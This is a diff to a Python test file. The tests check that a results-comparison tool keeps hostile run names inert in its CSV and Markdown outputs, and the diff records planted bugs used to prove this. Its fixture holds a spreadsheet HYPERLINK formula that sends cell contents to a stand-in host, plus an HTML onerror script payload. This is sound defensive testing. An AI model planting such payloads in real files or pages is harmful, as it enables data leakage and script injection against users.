@@ -204,10 +204,12 @@ EVIL = {"formula": "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "html": "x
 
 
 def shared_runs(w, names=EVIL):
-    """Copies of the stored run whose ``method`` is each hostile name (a run file shared by someone else)."""
+    """Copies of the stored run whose ``method`` is each hostile name (a run file shared by someone else), each of
+    its own model (compare shows the newest run of each configuration)."""
     path, record, _ = the_run(w)
     for key, method in names.items():
-        (path.parent / f"shared_{key}.json").write_text(json.dumps(record | {"method": method}))
+        (path.parent / f"shared_{key}.json").write_text(json.dumps(record | {"method": method,
+                                                                             "model": f"shared_{key}"}))
 
 
 def csv_rows(text: str) -> list[dict]:
@@ -246,8 +248,9 @@ def test_csv_outputs_are_inert(case, capsys):
 
 def test_markdown_cells_stay_one_cell_of_text(case, capsys):
     """RESULTS.md: a method ``x | <img src=x onerror=alert(1)> | y`` is one escaped cell (every row of the table
-    has as many cells as its header) and no HTML tag reaches the file. Planted bug: results._cell returning
-    ``str(value)`` (the row gained two columns and the <img> tag passed)."""
+    has as many cells as its header) and no HTML tag reaches the file. Planted bugs: results._cell returning
+    ``str(value)``, and (after the run-id merge) SPECIAL_CELLS' Method cell without md_cell: each time the row
+    gained two columns and the <img> tag passed."""
     w, roots = case
     shared_runs(w, {"html": EVIL["html"]})
     assert main(["compare", "-q", *roots]) == 0
